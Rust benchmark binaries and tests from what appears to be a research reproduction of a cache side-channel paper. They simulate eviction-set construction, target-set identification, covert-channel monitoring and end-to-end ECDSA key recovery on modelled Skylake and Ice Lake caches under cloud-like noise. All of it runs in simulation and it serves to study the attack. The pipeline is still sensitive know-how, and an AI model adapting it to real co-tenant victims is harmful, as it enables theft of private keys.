        ..EcdsaVictimConfig::default()
    };
    let mut config = AttackConfig {
        spec: spec.clone(),
        noise: environment.noise(),
        signatures: 5,
        seed,
        ..AttackConfig::default()
    };
    config.classifier.features.expected_period_cycles = victim.expected_access_period();
    config.classifier.noise_per_ms = environment.noise().accesses_per_ms(spec.freq_ghz);
    config.scan.trace_cycles = 1_000_000;
    config.extraction.iteration_cycles = victim.iteration_cycles;
    config.victim = victim;
    EndToEndAttack::new(config).run()
}

#[cfg(test)]
mod tests {
    use super::*;
    use llc_cache_model::CacheSpec;

    fn tiny() -> CacheSpec {
        CacheSpec::tiny_test()
    }

    #[test]
    fn single_set_measurement_succeeds_locally() {
        let stats = measure_single_set(
            &tiny(),
            Environment::QuiescentLocal,
            NoiseFidelity::Exact,
            HierarchyOptions::default(),
            Algorithm::BinS,
            true,
            3,
            1,
            &Fleet::single(),
        );
        assert!(stats.success_rate > 0.5, "success rate {}", stats.success_rate);
        assert!(stats.time_ms.mean > 0.0);
    }

    /// The `trials == 1` bench path skips the snapshot + worker-clone +
    /// rewind detour; this pins that it still measures the *identical* trial
    /// (same derived seeds, same simulated cycles) as the detour it
    /// replaced, so criterion medians change only by the removed host-side
    /// machine-acquisition overhead.
    #[test]
    fn one_trial_bench_path_matches_snapshot_worker_detour() {
        let spec = tiny();
        let seed = 0xb51u64;
        let fast = measure_single_set(
            &spec,
            Environment::CloudRun,
            NoiseFidelity::Exact,
            HierarchyOptions::default(),
            Algorithm::BinS,
            false,
            1,
            seed,
            &Fleet::single(),
        );

        // The pre-fix path, replayed by hand: warmed base → snapshot →
        // worker materialisation → no-op rewind → identical trial body.
        let base = Machine::builder(spec.clone())
            .noise(Environment::CloudRun.noise())
            .seed(stream_seed(seed, trial_streams::MACHINE))
            .build();
        let snapshot = base.snapshot();
        let mut machine = snapshot.to_machine();
        machine.reset_to(&snapshot);
        let ctx = llc_fleet::TrialCtx::derive(seed, 0, 1);
        machine.reseed(ctx.stream(trial_streams::NOISE));
        let mut rng = ctx.stream_rng(trial_streams::ALLOC);
        let algo = Algorithm::BinS.instance();
        let builder = EvsetBuilder::new(algo.as_ref())
            .config(EvsetConfig::unfiltered())
            .target(TargetCache::Sf)
            .filtering(false);
        let result = builder.build_random_set(&mut machine, &mut rng);
        let time_ms = crate::cycles_to_ms(result.total_cycles as f64, spec.freq_ghz);

        assert_eq!(fast.time_ms.mean, time_ms, "simulated construction time diverged");
        let success = result
            .eviction_set
            .as_ref()
            .map(|set| {
                oracle::is_true_eviction_set(
                    &machine,
                    set.addresses()[0],
                    set.addresses(),
                    spec.sf.ways(),
                )
            })
            .unwrap_or(false);
        assert_eq!(fast.success_rate, if success { 1.0 } else { 0.0 });
    }

    #[test]
    fn single_set_measurement_is_thread_count_invariant() {
        let run = |threads: usize| {
            measure_single_set(
                &tiny(),
                Environment::CloudRun,
                NoiseFidelity::Exact,
                HierarchyOptions::default(),
                Algorithm::BinS,
                true,
                6,
                0x7e57,
                &Fleet::new(threads).with_chunk(1),
            )
        };
        let serial = run(1);
        assert_eq!(serial, run(2));
        assert_eq!(serial, run(4));
    }

    #[test]
    fn bulk_estimate_extrapolates() {
        let est = measure_bulk(
            &tiny(),
            Environment::QuiescentLocal,
            Algorithm::BinS,
            llc_evsets::Scope::PageOffset,
            2,
            2,
        );
        assert!(est.required_sets >= est.sampled_sets);
        assert!(est.estimated_total_seconds >= 0.0);
    }

    #[test]
    fn noise_cdf_orders_environments() {
        let local = measure_noise_cdf(&tiny(), Environment::QuiescentLocal, 40, 3);
        let cloud = measure_noise_cdf(&tiny(), Environment::CloudRun, 40, 3);
        assert!(
            cloud.accesses_per_ms > local.accesses_per_ms,
            "cloud noise ({}) must exceed local noise ({})",
            cloud.accesses_per_ms,
            local.accesses_per_ms
        );
        assert!(cloud.cdf_at(100.0) >= local.cdf_at(100.0));
    }

    #[test]
    fn test_eviction_points_show_parallel_speedup() {
        let points = measure_test_eviction(
            &tiny(),
            Environment::QuiescentLocal,
            &[32, 128],
            3,
            4,
            &Fleet::single(),
        );
        assert_eq!(points.len(), 2);
        for p in points {
            assert!(p.parallel_us.mean < p.sequential_us.mean);
        }
    }

    #[test]
    fn key_recovery_campaign_on_tiny_machine_is_deterministic() {
        let run = |threads: usize| {
            measure_key_recovery(
                &tiny(),
                Environment::QuiescentLocal,
                NoiseFidelity::Exact,
                HierarchyOptions::default(),
                &TenantPopulation::empty(),
                32,
                3,
                SearchConfig { max_candidates: 150, max_flips: 2 },
                0xeec,
                &Fleet::new(threads).with_chunk(1),
            )
        };
        let serial = run(1);
        assert_eq!(serial.ladder_bits, 31);
        assert!(!serial.per_signature.is_empty(), "campaign must attack at least one signature");
        let threaded = run(2);
        assert_eq!(serial.signatures_needed, threaded.signatures_needed);
        assert_eq!(serial.recovered_key, threaded.recovered_key);
        assert_eq!(serial.per_signature.len(), threaded.per_signature.len());
        for (a, b) in serial.per_signature.iter().zip(&threaded.per_signature) {
            assert_eq!(a.candidates_examined, b.candidates_examined);
            assert_eq!(a.observed_bits, b.observed_bits);
        }
        // On success the key must equal the ground truth (public-key
        // verification admits no false positives).
        if serial.signatures_needed.is_some() {
            assert!(serial.matches_ground_truth);
        }
    }

    #[test]
    fn monitoring_measurement_produces_latencies() {
        let point = measure_monitoring(
            &tiny(),
            Environment::QuiescentLocal,
            Strategy::Parallel,
            5_000,
            100,
            5,
        );
        assert!(point.detection_rate > 0.3);
        assert!(point.stats.mean_prime_cycles > 0.0);
    }
}
