//! Figure 6: covert-channel detection rate of each monitoring strategy as a
//! function of the sender's access interval.

use llc_bench::experiments::{measure_monitoring, Environment};
use llc_bench::{env_usize, scaled_skylake};
use llc_probe::Strategy;

fn main() {
    let spec = scaled_skylake();
    let sender_accesses = env_usize("LLC_SENDER_ACCESSES", 500);
    let intervals = [1_000u64, 2_000, 5_000, 7_000, 10_000, 50_000, 100_000];

    println!("Figure 6 — detection rate vs access interval ({}, Cloud Run noise)", spec.name);
    print!("{:<12}", "Interval");
    for strategy in Strategy::all() {
        print!(" {:>12}", strategy.to_string());
    }
    println!();
    for &interval in &intervals {
        print!("{:<12}", interval);
        for strategy in Strategy::all() {
            let p = measure_monitoring(
                &spec,
                Environment::CloudRun,
                strategy,
                interval,
                sender_accesses,
                0xf16_6,
            );
            print!(" {:>11.1}%", 100.0 * p.detection_rate);
        }
        println!();
    }
    println!();
    println!("Paper: at a 2k-cycle interval Parallel reaches 84.1% while PS-Flush and");
    println!("PS-Alt reach 15.4% and 6.0%; at 100k cycles 91.1% / 82.1% / 36.9%. The");
    println!("reproduced claim is Parallel >> PS-Flush > PS-Alt at short intervals and");
    println!("detection improving with the interval.");
}
