//! Figure 6: covert-channel detection rate of each monitoring strategy as a
//! function of the sender's access interval.
//!
//! The (interval x strategy) grid cells are independent measurements
//! sharded across the `llc-fleet` workers (`--threads`/`LLC_THREADS`);
//! `--smoke` runs a pinned, smaller grid.

use llc_bench::experiments::{measure_monitoring, Environment};
use llc_bench::{env_usize, RunOpts};
use llc_probe::Strategy;

fn main() {
    let opts = RunOpts::parse();
    let spec = opts.spec();
    let sender_accesses = if opts.smoke { 120 } else { env_usize("LLC_SENDER_ACCESSES", 500) };
    let intervals: &[u64] = if opts.smoke {
        &[2_000, 10_000, 100_000]
    } else {
        &[1_000, 2_000, 5_000, 7_000, 10_000, 50_000, 100_000]
    };
    let strategies = Strategy::all();

    // One fleet trial per (interval, strategy) cell, row-major.
    let cells: Vec<(u64, Strategy)> = intervals
        .iter()
        .flat_map(|&i| strategies.iter().map(move |&s| (i, s)))
        .collect();
    let points = opts.fleet().run(cells.len(), 0xf166, |ctx| {
        let (interval, strategy) = cells[ctx.trial];
        measure_monitoring(&spec, Environment::CloudRun, strategy, interval, sender_accesses, ctx.seed)
    });

    println!("Figure 6 — detection rate vs access interval ({}, Cloud Run noise)", spec.name);
    print!("{:<12}", "Interval");
    for strategy in strategies {
        print!(" {:>12}", strategy.to_string());
    }
    println!();
    for (row, &interval) in intervals.iter().enumerate() {
        print!("{:<12}", interval);
        for col in 0..strategies.len() {
            print!(" {:>11.1}%", 100.0 * points[row * strategies.len() + col].detection_rate);
        }
        println!();
    }
    println!();
    println!("Paper: at a 2k-cycle interval Parallel reaches 84.1% while PS-Flush and");
    println!("PS-Alt reach 15.4% and 6.0%; at 100k cycles 91.1% / 82.1% / 36.9%. The");
    println!("reproduced claim is Parallel >> PS-Flush > PS-Alt at short intervals and");
    println!("detection improving with the interval.");
}
