//! Figure 2: CDF of the time between background (other-tenant) accesses to a
//! randomly chosen LLC/SF set, on Cloud Run versus a quiescent local machine.
//!
//! The two environment curves are independent measurements sharded across
//! the `llc-fleet` workers (`--threads`/`LLC_THREADS`); `--smoke` runs a
//! pinned, smaller configuration.

use llc_bench::experiments::{measure_noise_cdf, Environment};
use llc_bench::{env_usize, RunOpts};

fn main() {
    let opts = RunOpts::parse();
    let spec = opts.spec();
    let samples = if opts.smoke { 120 } else { env_usize("LLC_NOISE_SAMPLES", 400) };
    println!("Figure 2 — CDF of time between background accesses to one set ({})", spec.name);

    let envs = Environment::all();
    let curves = opts
        .fleet()
        .run(envs.len(), 0xf162, |ctx| measure_noise_cdf(&spec, envs[ctx.trial], samples, ctx.seed));

    println!("{:<18} {:>22}", "Environment", "Mean accesses/ms/set");
    for c in &curves {
        println!("{:<18} {:>22.2}", c.environment, c.accesses_per_ms);
    }
    println!();
    println!("{:<14} {:>16} {:>16}", "Interval (us)", curves[0].environment, curves[1].environment);
    for threshold in [10.0, 25.0, 50.0, 100.0, 150.0, 200.0, 300.0, 500.0, 1000.0, 3000.0] {
        println!(
            "{:<14} {:>15.1}% {:>15.1}%",
            threshold,
            100.0 * curves[0].cdf_at(threshold),
            100.0 * curves[1].cdf_at(threshold)
        );
    }
    println!();
    println!("Paper: Cloud Run averages 11.5 accesses/ms/set vs 0.29 locally, so the");
    println!("Cloud Run CDF rises close to 1 within ~300 us while the local CDF stays low.");
}
