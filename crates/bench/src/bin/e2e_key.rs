//! Section 7.3 / Step 4: the complete attack loop closed to the victim's
//! ECDSA private key — multi-signature campaign plus the full end-to-end
//! attack with the recovery phase.
//!
//! Signature observations are sharded through the `llc-fleet` executor
//! (`--threads`/`LLC_THREADS`; output is bit-identical for every thread
//! count); `--smoke` runs the pinned golden configuration. Scaling knobs:
//! `LLC_SIGNATURES`, `LLC_FLIP_BUDGET`, `LLC_CANDIDATES`.

use llc_bench::{reports, RunOpts};

fn main() {
    print!("{}", reports::e2e_key_report(&RunOpts::parse()));
}
