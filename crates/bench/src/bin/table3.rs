//! Table 3: effectiveness of the state-of-the-art address-pruning algorithms
//! (`Gt`, `GtOp`, `Ps`, `PsOp`) without candidate filtering, in the quiescent
//! local environment and on Cloud Run.

use llc_bench::experiments::{measure_single_set, Environment};
use llc_bench::{pct, scaled_skylake, trials};
use llc_core::Algorithm;

fn main() {
    let spec = scaled_skylake();
    let trials = trials(4);
    println!("Table 3 — existing pruning algorithms, no candidate filtering");
    println!("machine: {} | trials per cell: {trials}", spec.name);
    println!(
        "{:<18} {:<8} {:>10} {:>12} {:>12} {:>12}",
        "Environment", "Algo", "Succ.", "Avg (ms)", "Std (ms)", "Med (ms)"
    );
    for env in Environment::all() {
        for algo in [Algorithm::Gt, Algorithm::GtOp, Algorithm::Ps, Algorithm::PsOp] {
            let s = measure_single_set(&spec, env, algo, false, trials, 0x7ab1e3);
            println!(
                "{:<18} {:<8} {:>10} {:>12.1} {:>12.1} {:>12.1}",
                s.environment,
                s.algorithm,
                pct(s.success_rate),
                s.time_ms.mean,
                s.time_ms.std_dev,
                s.time_ms.median
            );
        }
    }
    println!();
    println!("Paper (28-slice Xeon 8173M): local success 97-99%, 21-56 ms;");
    println!("Cloud Run success 3-56%, 512-714 ms — the ordering (GtOp > Gt >> PsOp > Ps");
    println!("under noise) is the reproduced claim.");
}
