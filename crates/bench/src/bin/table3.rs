//! Table 3: effectiveness of the state-of-the-art address-pruning algorithms
//! (`Gt`, `GtOp`, `Ps`, `PsOp`) without candidate filtering, in the quiescent
//! local environment and on Cloud Run.
//!
//! Trials run through the `llc-fleet` executor: `--threads N` (or
//! `LLC_THREADS`) shards them across workers with byte-identical output,
//! and `--smoke` selects the pinned configuration the golden tests diff.

use llc_bench::{reports, RunOpts};

fn main() {
    let opts = RunOpts::parse();
    print!("{}", reports::table3_report(&opts));
}
