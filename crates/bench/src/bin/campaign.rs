//! The resumable sweep driver: runs a named campaign preset through the
//! `llc-campaign` streaming engine.
//!
//! ```text
//! campaign --preset table3-sweep [--dir DIR] [--threads N] [--smoke]
//!          [--max-chunks K] [--fault-plan SPEC] [--trial-budget CYCLES]
//!          [<shared RunOpts flags>]
//! ```
//!
//! Progress goes to stderr; the consolidated report goes to stdout **only
//! when the campaign is complete**, and is a pure function of the campaign
//! identity, its final aggregates and its quarantine list. Killing a
//! campaign (or bounding it with `--max-chunks`) and re-running the same
//! command resumes from the checkpoint directory and prints the
//! byte-identical report — CI diffs exactly that against the golden file.
//!
//! Fault-tolerance knobs: `--retries N` (shared `RunOpts` flag) bounds
//! per-trial retry; `--trial-budget CYCLES` arms the per-trial virtual-time
//! watchdog so runaway trials quarantine instead of hanging; `--fault-plan
//! SPEC` injects deterministic faults (`panic@K`, `panic@K!`, `short@N`,
//! `torn@N`, `enospc@N`, `fsync@N`, `rename@N`) for chaos testing — CI
//! kills a smoke campaign with an injected panic plus a torn record line,
//! resumes fault-free, and diffs the report against the fault-free golden.

use llc_bench::sweeps::{build_preset, render_report, PRESETS};
use llc_bench::RunOpts;
use llc_campaign::{Campaign, FaultPlan, RunOptions};
use std::path::PathBuf;

struct Args {
    preset: String,
    dir: Option<PathBuf>,
    max_chunks: Option<u64>,
    fault_plan: Option<FaultPlan>,
    trial_budget: Option<u64>,
    opts: RunOpts,
}

fn usage() -> ! {
    eprintln!(
        "usage: campaign --preset {} [--dir DIR] [--max-chunks K] \
         [--fault-plan SPEC] [--trial-budget CYCLES] [--retries N] \
         [--threads N] [--smoke] [--noise-fidelity exact|aggregate]",
        PRESETS.join("|")
    );
    std::process::exit(2);
}

fn parse_args() -> Args {
    let mut preset = None;
    let mut dir = None;
    let mut max_chunks = None;
    let mut fault_plan = None;
    let mut trial_budget = None;
    let mut rest: Vec<String> = Vec::new();
    let mut iter = std::env::args().skip(1);
    while let Some(arg) = iter.next() {
        let mut take = |flag: &str| -> Option<String> {
            if let Some(v) = arg.strip_prefix(&format!("{flag}=")) {
                Some(v.to_string())
            } else if arg == flag {
                Some(iter.next().unwrap_or_else(|| usage()))
            } else {
                None
            }
        };
        if let Some(v) = take("--preset") {
            preset = Some(v);
        } else if let Some(v) = take("--dir") {
            dir = Some(PathBuf::from(v));
        } else if let Some(v) = take("--max-chunks") {
            match v.parse::<u64>() {
                Ok(k) => max_chunks = Some(k),
                Err(_) => {
                    eprintln!("--max-chunks expects a non-negative integer, got {v:?}");
                    usage();
                }
            }
        } else if let Some(v) = take("--fault-plan") {
            match FaultPlan::parse(&v) {
                Ok(plan) => fault_plan = Some(plan),
                Err(msg) => {
                    eprintln!("--fault-plan: {msg}");
                    usage();
                }
            }
        } else if let Some(v) = take("--trial-budget") {
            match v.parse::<u64>() {
                Ok(b) if b > 0 => trial_budget = Some(b),
                _ => {
                    eprintln!("--trial-budget expects a positive cycle count, got {v:?}");
                    usage();
                }
            }
        } else {
            rest.push(arg);
        }
    }
    let opts = match RunOpts::from_args(&rest) {
        Ok(opts) => opts,
        Err(msg) => {
            eprintln!("{msg}");
            usage();
        }
    };
    let Some(preset) = preset else {
        eprintln!("--preset is required");
        usage();
    };
    Args { preset, dir, max_chunks, fault_plan, trial_budget, opts }
}

fn main() {
    let args = parse_args();
    let Some(preset) = build_preset(&args.preset, &args.opts) else {
        eprintln!("unknown preset {:?}; available: {}", args.preset, PRESETS.join(", "));
        std::process::exit(2);
    };
    let source = preset.source.with_trial_budget(args.trial_budget);
    let dir = args
        .dir
        .unwrap_or_else(|| PathBuf::from("target/campaigns").join(&preset.spec.name));
    let fleet = args.opts.fleet();
    let campaign = Campaign::new(preset.spec.clone(), &dir);

    eprintln!(
        "campaign '{}': {} cells, {} trials, checkpoints in {}",
        preset.spec.name,
        preset.spec.cells.len(),
        preset.spec.grid().total(),
        dir.display()
    );
    let mut options = RunOptions { max_chunks: args.max_chunks, ..RunOptions::default() };
    if let Some(retries) = args.opts.retries {
        options.retries = retries;
    }
    options.fault_plan = args.fault_plan;
    let outcome = match campaign.run(&fleet, &source, &options) {
        Ok(outcome) => outcome,
        Err(err) => {
            eprintln!("error: {err}");
            eprintln!("(hint: a mismatched or damaged checkpoint directory is never merged; \
                       point --dir elsewhere or delete it — an injected-fault or worker-lost \
                       error resumes cleanly from the same directory)");
            std::process::exit(1);
        }
    };

    let stats = source.pool().stats();
    eprintln!(
        "chunks: {}/{} recorded ({} resumed, {} run now{}); machines: {} built, {} checkouts, \
         {} discarded",
        outcome.chunks_resumed + outcome.chunks_run,
        outcome.chunks_total,
        outcome.chunks_resumed,
        outcome.chunks_run,
        if outcome.recovered_tail { ", torn tail re-run" } else { "" },
        stats.builds,
        stats.acquisitions,
        stats.discards,
    );
    if outcome.complete {
        print!(
            "{}",
            render_report(&preset.spec, source.cells(), &outcome.aggregates, &outcome.quarantined)
        );
    } else {
        eprintln!("campaign incomplete; re-run the same command to resume");
    }
}
