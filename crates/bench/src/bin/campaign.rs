//! The resumable sweep driver: runs a named campaign preset through the
//! `llc-campaign` streaming engine.
//!
//! ```text
//! campaign --preset table3-sweep [--dir DIR] [--threads N] [--smoke]
//!          [--max-chunks K] [<shared RunOpts flags>]
//! ```
//!
//! Progress goes to stderr; the consolidated report goes to stdout **only
//! when the campaign is complete**, and is a pure function of the campaign
//! identity and its final aggregates. Killing a campaign (or bounding it
//! with `--max-chunks`) and re-running the same command resumes from the
//! checkpoint directory and prints the byte-identical report — CI diffs
//! exactly that against the golden file.

use llc_bench::sweeps::{build_preset, render_report, PRESETS};
use llc_bench::RunOpts;
use llc_campaign::{Campaign, RunOptions};
use std::path::PathBuf;

struct Args {
    preset: String,
    dir: Option<PathBuf>,
    max_chunks: Option<u64>,
    opts: RunOpts,
}

fn usage() -> ! {
    eprintln!(
        "usage: campaign --preset {} [--dir DIR] [--max-chunks K] \
         [--threads N] [--smoke] [--noise-fidelity exact|aggregate]",
        PRESETS.join("|")
    );
    std::process::exit(2);
}

fn parse_args() -> Args {
    let mut preset = None;
    let mut dir = None;
    let mut max_chunks = None;
    let mut rest: Vec<String> = Vec::new();
    let mut iter = std::env::args().skip(1);
    while let Some(arg) = iter.next() {
        let mut take = |flag: &str| -> Option<String> {
            if let Some(v) = arg.strip_prefix(&format!("{flag}=")) {
                Some(v.to_string())
            } else if arg == flag {
                Some(iter.next().unwrap_or_else(|| usage()))
            } else {
                None
            }
        };
        if let Some(v) = take("--preset") {
            preset = Some(v);
        } else if let Some(v) = take("--dir") {
            dir = Some(PathBuf::from(v));
        } else if let Some(v) = take("--max-chunks") {
            match v.parse::<u64>() {
                Ok(k) => max_chunks = Some(k),
                Err(_) => {
                    eprintln!("--max-chunks expects a non-negative integer, got {v:?}");
                    usage();
                }
            }
        } else {
            rest.push(arg);
        }
    }
    let opts = match RunOpts::from_args(&rest) {
        Ok(opts) => opts,
        Err(msg) => {
            eprintln!("{msg}");
            usage();
        }
    };
    let Some(preset) = preset else {
        eprintln!("--preset is required");
        usage();
    };
    Args { preset, dir, max_chunks, opts }
}

fn main() {
    let args = parse_args();
    let Some(preset) = build_preset(&args.preset, &args.opts) else {
        eprintln!("unknown preset {:?}; available: {}", args.preset, PRESETS.join(", "));
        std::process::exit(2);
    };
    let dir = args
        .dir
        .unwrap_or_else(|| PathBuf::from("target/campaigns").join(&preset.spec.name));
    let fleet = args.opts.fleet();
    let campaign = Campaign::new(preset.spec.clone(), &dir);

    eprintln!(
        "campaign '{}': {} cells, {} trials, checkpoints in {}",
        preset.spec.name,
        preset.spec.cells.len(),
        preset.spec.grid().total(),
        dir.display()
    );
    let report =
        match campaign.run(&fleet, &preset.source, &RunOptions { max_chunks: args.max_chunks }) {
            Ok(report) => report,
            Err(err) => {
                eprintln!("error: {err}");
                eprintln!("(hint: a mismatched or damaged checkpoint directory is never merged; \
                           point --dir elsewhere or delete it)");
                std::process::exit(1);
            }
        };

    let stats = preset.source.pool().stats();
    eprintln!(
        "chunks: {}/{} recorded ({} resumed, {} run now{}); machines: {} built, {} checkouts",
        report.chunks_resumed + report.chunks_run,
        report.chunks_total,
        report.chunks_resumed,
        report.chunks_run,
        if report.recovered_tail { ", torn tail re-run" } else { "" },
        stats.builds,
        stats.acquisitions,
    );
    if report.complete {
        print!("{}", render_report(&preset.spec, preset.source.cells(), &report.aggregates));
    } else {
        eprintln!("campaign incomplete; re-run the same command to resume");
    }
}
