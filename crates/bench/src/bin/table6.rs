//! Table 6: performance of PSD-based target-set identification in the
//! PageOffset and (approximated) WholeSys scenarios.

use llc_bench::experiments::{measure_identification, Environment};
use llc_bench::{env_usize, pct, scaled_skylake, trials};

fn main() {
    let spec = scaled_skylake();
    let trials = trials(3);
    // PageOffset: scan the sets reachable at the target's page offset.
    // WholeSys is approximated by scanning several times as many sets in
    // random order (the full 64x sweep is available via LLC_WHOLESYS_SETS).
    let page_offset_sets = spec.sf.uncertainty().min(env_usize("LLC_PAGEOFFSET_SETS", 24));
    let wholesys_sets = env_usize("LLC_WHOLESYS_SETS", page_offset_sets * 4);
    let freq = spec.freq_ghz;
    let timeout_po = (10.0 * freq * 1e9) as u64;
    let timeout_ws = (40.0 * freq * 1e9) as u64;

    println!("Table 6 — PSD-based target-set identification ({})", spec.name);
    println!(
        "{:<12} {:>8} {:>10} {:>14} {:>14} {:>14}",
        "Scenario", "Sets", "Success", "Avg time (s)", "Std time (s)", "Scan rate (/s)"
    );
    for (label, sets, timeout) in
        [("PageOffset", page_offset_sets, timeout_po), ("WholeSys", wholesys_sets, timeout_ws)]
    {
        let stats =
            measure_identification(&spec, Environment::CloudRun, sets, trials, timeout, 0x7ab1e6);
        println!(
            "{:<12} {:>8} {:>10} {:>14.2} {:>14.2} {:>14.0}",
            label,
            sets,
            pct(stats.success_rate),
            stats.success_time_s.mean,
            stats.success_time_s.std_dev,
            stats.scan_rate_per_s
        );
    }
    println!();
    println!("Paper: 94.1% success in 6.1 s (PageOffset) and 73.9% in 179.7 s (WholeSys),");
    println!("scanning 762-831 sets/s. The reproduced claims are the high PageOffset");
    println!("success rate and the WholeSys degradation caused by de-synchronisation.");
}
