//! Table 6: performance of PSD-based target-set identification in the
//! PageOffset and (approximated) WholeSys scenarios.
//!
//! Identification trials run through the `llc-fleet` executor
//! (`--threads`/`LLC_THREADS`, byte-identical output for any thread count);
//! `--smoke` runs the pinned configuration the golden tests diff. The report
//! itself is generated in-process by `llc_bench::reports::table6_report`,
//! which `tests/experiment_smoke.rs` covers against `tests/golden/`.

use llc_bench::{reports, RunOpts};

fn main() {
    let opts = RunOpts::parse();
    print!("{}", reports::table6_report(&opts));
}
