//! Table 6: performance of PSD-based target-set identification in the
//! PageOffset and (approximated) WholeSys scenarios.
//!
//! Identification trials run through the `llc-fleet` executor
//! (`--threads`/`LLC_THREADS`, byte-identical output for any thread count);
//! `--smoke` runs a pinned, smaller configuration.

use llc_bench::experiments::{measure_identification, Environment};
use llc_bench::{env_usize, pct, RunOpts};

fn main() {
    let opts = RunOpts::parse();
    let spec = opts.spec();
    let trials = opts.trials(2, 3);
    // PageOffset: scan the sets reachable at the target's page offset.
    // WholeSys is approximated by scanning several times as many sets in
    // random order (the full 64x sweep is available via LLC_WHOLESYS_SETS).
    let page_offset_sets = if opts.smoke {
        spec.sf.uncertainty().min(8)
    } else {
        spec.sf.uncertainty().min(env_usize("LLC_PAGEOFFSET_SETS", 24))
    };
    let wholesys_sets = if opts.smoke {
        page_offset_sets * 2
    } else {
        env_usize("LLC_WHOLESYS_SETS", page_offset_sets * 4)
    };
    let freq = spec.freq_ghz;
    let timeout_po = ((if opts.smoke { 5.0 } else { 10.0 }) * freq * 1e9) as u64;
    let timeout_ws = ((if opts.smoke { 10.0 } else { 40.0 }) * freq * 1e9) as u64;
    let fleet = opts.fleet();

    println!("Table 6 — PSD-based target-set identification ({})", spec.name);
    println!(
        "{:<12} {:>8} {:>10} {:>14} {:>14} {:>14}",
        "Scenario", "Sets", "Success", "Avg time (s)", "Std time (s)", "Scan rate (/s)"
    );
    for (label, sets, timeout) in
        [("PageOffset", page_offset_sets, timeout_po), ("WholeSys", wholesys_sets, timeout_ws)]
    {
        let stats = measure_identification(
            &spec,
            Environment::CloudRun,
            sets,
            trials,
            timeout,
            0x7ab1e6,
            &fleet,
        );
        println!(
            "{:<12} {:>8} {:>10} {:>14.2} {:>14.2} {:>14.0}",
            label,
            sets,
            pct(stats.success_rate),
            stats.success_time_s.mean,
            stats.success_time_s.std_dev,
            stats.scan_rate_per_s
        );
    }
    println!();
    println!("Paper: 94.1% success in 6.1 s (PageOffset) and 73.9% in 179.7 s (WholeSys),");
    println!("scanning 762-831 sets/s. The reproduced claims are the high PageOffset");
    println!("success rate and the WholeSys degradation caused by de-synchronisation.");
}
