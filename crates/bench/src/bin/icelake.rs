//! Section 5.3.2: sensitivity to cache associativity — single eviction-set
//! construction time for the SF and the L2 on Skylake-SP (12-way SF, 16-way
//! L2) versus Ice Lake-SP (16-way SF, 20-way L2), quiescent local machines.
//!
//! Construction trials run through the `llc-fleet` executor
//! (`--threads`/`LLC_THREADS`); `--smoke` pins slices and trial counts.

use llc_bench::experiments::{measure_single_set, measure_single_set_pooled, Environment};
use llc_bench::{pct, RunOpts};
use llc_cache_model::CacheSpec;
use llc_core::Algorithm;

fn main() {
    let opts = RunOpts::parse();
    let trials = opts.trials(2, 4);
    let slices =
        if opts.smoke { 4 } else { llc_bench::env_usize("LLC_SLICES", 8) };
    let machines = [
        ("Skylake-SP", CacheSpec::skylake_sp(slices, 4)),
        ("Ice Lake-SP", {
            let mut icx = CacheSpec::ice_lake_sp();
            // Match the scaled slice count so only associativity differs.
            icx.llc = llc_cache_model::SlicedGeometry::new(icx.llc.slice_geometry(), slices);
            icx.sf = llc_cache_model::SlicedGeometry::new(icx.sf.slice_geometry(), slices);
            icx
        }),
    ];
    let algorithms = [Algorithm::Gt, Algorithm::GtOp, Algorithm::BinS];
    let fleet = opts.fleet();
    // Multi-threaded runs share machines across the three algorithms of
    // each row through the pool; output stays byte-identical.
    let pool = (opts.threads > 1).then(llc_machine::MachinePool::new);

    println!("Section 5.3.2 — associativity sensitivity (quiescent local, {trials} trials)");
    println!(
        "{:<14} {:>8} {:>8} {:<8} {:>10} {:>12}",
        "Machine", "SF ways", "L2 ways", "Algo", "Succ.", "Avg (ms)"
    );
    let mut bins_time = [0.0f64; 2];
    let mut gtop_time = [0.0f64; 2];
    for (idx, (name, spec)) in machines.iter().enumerate() {
        for algo in algorithms {
            let s = match &pool {
                Some(pool) => measure_single_set_pooled(
                    spec,
                    Environment::QuiescentLocal,
                    opts.fidelity,
                    opts.hierarchy_options(),
                    algo,
                    true,
                    trials,
                    0x1ce,
                    &fleet,
                    pool,
                ),
                None => measure_single_set(
                    spec,
                    Environment::QuiescentLocal,
                    opts.fidelity,
                    opts.hierarchy_options(),
                    algo,
                    true,
                    trials,
                    0x1ce,
                    &fleet,
                ),
            };
            println!(
                "{:<14} {:>8} {:>8} {:<8} {:>10} {:>12.2}",
                name,
                spec.sf.ways(),
                spec.l2.ways(),
                s.algorithm,
                pct(s.success_rate),
                s.time_ms.mean
            );
            if algo == Algorithm::BinS {
                bins_time[idx] = s.time_ms.mean;
            }
            if algo == Algorithm::GtOp {
                gtop_time[idx] = s.time_ms.mean;
            }
        }
    }
    println!();
    for (idx, (name, _)) in machines.iter().enumerate() {
        if bins_time[idx] > 0.0 {
            println!("{name}: GtOp/BinS time ratio = {:.2}", gtop_time[idx] / bins_time[idx]);
        }
    }
    println!();
    println!("Paper: the GtOp/BinS ratio grows from 1.51 (Skylake-SP SF) to 1.83");
    println!("(Ice Lake-SP SF) and from 1.43 to 3.58 for the L2, i.e. group testing's");
    println!("O(W^2 N) cost penalises higher associativity more than BinS's O(W N log N).");
}
