//! Section 7.3: the complete end-to-end attack — eviction sets, target-set
//! identification and nonce extraction — with the paper's summary metrics.
//!
//! Attack trials are independent and run through the `llc-fleet` executor
//! (`--threads`/`LLC_THREADS`); `--smoke` runs one pinned trial.

use llc_bench::experiments::{run_end_to_end, Environment};
use llc_bench::{pct, RunOpts};

fn main() {
    let opts = RunOpts::parse();
    let spec = opts.spec();
    let trials = opts.trials(1, 2);
    println!("Section 7.3 — end-to-end attack ({}, Cloud Run noise)", spec.name);
    println!(
        "{:<8} {:>10} {:>12} {:>12} {:>14} {:>12} {:>12}",
        "Trial", "Ev. sets", "Identified", "Correct", "Bits recov.", "Bit errors", "Total (s)"
    );
    let reports =
        opts.fleet().run(trials, 0xe2e, |ctx| run_end_to_end(&spec, Environment::CloudRun, ctx.seed));
    let mut recovered = Vec::new();
    let mut times = Vec::new();
    for (trial, report) in reports.iter().enumerate() {
        println!(
            "{:<8} {:>10} {:>12} {:>12} {:>14} {:>12} {:>12.1}",
            trial,
            report.evset.sets_built,
            report.identify.identified,
            report.identify.correct,
            pct(report.extract.median_recovered_fraction()),
            pct(report.extract.mean_bit_error_rate()),
            report.total_seconds()
        );
        recovered.push(report.extract.median_recovered_fraction());
        times.push(report.total_seconds());
    }
    recovered.sort_by(|a, b| a.partial_cmp(b).expect("finite"));
    println!();
    println!(
        "median nonce bits recovered: {} | mean attack time: {:.1} s",
        pct(recovered[recovered.len() / 2]),
        times.iter().sum::<f64>() / times.len().max(1) as f64
    );
    println!();
